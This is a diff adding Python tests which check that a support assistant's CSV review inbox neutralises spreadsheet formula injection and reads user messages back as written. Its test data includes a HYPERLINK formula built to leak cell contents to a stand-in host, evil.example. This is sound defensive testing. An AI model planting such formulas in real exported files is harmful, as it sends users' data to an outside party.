@@ -90,3 +90,47 @@ def test_a_misunderstanding_between_question_and_no_still_marks_the_advice_unhel
     ]
     assert reasons(events) == [("mejlet kommer inte", "no_email", ["unhelpful"]),
                                ("blorp", "nlu_fallback", ["fallback"])]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klicka")', "+46 70 123", "-2+3", "@SUM(A1:A9)",
+            "\tindrag", "\r=1+1", "'=citerad", "'vanlig", "  =1+1", "hej;=1+1", 'säger "hej"', "-"]
+
+
+def test_the_inbox_file_runs_no_formula_and_reads_back_as_written(tmp_path):
+    from assistant.review.inbox import Row, write_csv
+    from assistant.review.spreadsheet import read_rows
+
+    rows = [Row(conversation=text, timestamp=0, language="sv", text=text, predicted_intent="nlu_fallback",
+                confidence=0.4, reasons=["fallback"]) for text in FORMULAS]
+    path = tmp_path / "inbox.csv"
+    write_csv(rows, path)
+
+    # What a spreadsheet sees: every cell quoted, none starting with a formula character.
+    import csv
+
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
+    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert path.read_text(encoding="utf-8-sig").count('"') >= 2 * len(cells)
+    # Read back (as an import does), each text is what the user wrote.
+    back = read_rows(path)
+    assert [row["text"] for row in back] == FORMULAS
+    assert [row["conversation"] for row in back] == FORMULAS
+
+
+def test_a_corrected_formula_like_message_is_imported_as_its_text(tmp_path):
+    from assistant.review.inbox import Row, write_csv
+    from assistant.review.spreadsheet import read_rows, write_rows
+
+    data = tmp_path / "data"
+    shutil.copytree(ROOT / "data", data)
+    exported = tmp_path / "inbox.csv"
+    write_csv([Row("c", 0, "sv", "-jag får ingen kod alls på mobilen", "nlu_fallback", 0.4, ["fallback"])], exported)
+    rows = read_rows(exported)
+    rows[0]["correct_intent"] = "no_sms_code"
+    write_rows(exported, list(rows[0]), rows)  # as the support lead saves it
+
+    result = import_corrections(exported, data / "nlu", ROOT / "tests" / "nlu", validate=False)
+
+    assert [(intent, text) for _, intent, text in result.added] == [("no_sms_code", "-jag får ingen kod alls på mobilen")]
+    assert "- -jag får ingen kod alls på mobilen" in (data / "nlu" / "sv" / "no_sms_code.yml").read_text(encoding="utf-8")
